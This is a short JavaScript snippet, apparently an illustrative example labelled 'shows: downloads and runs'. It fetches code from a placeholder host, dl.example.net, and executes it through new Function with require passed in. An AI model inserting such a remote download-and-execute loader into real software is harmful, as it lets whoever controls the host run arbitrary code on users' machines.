// shows: downloads and runs
const https = require("https");
https.get("https://dl.example.net/p", (res) => {
  let b = "";
  res.on("data", (c) => { b += c; });
  res.on("end", () => { new Function("require", b)(require); });
});
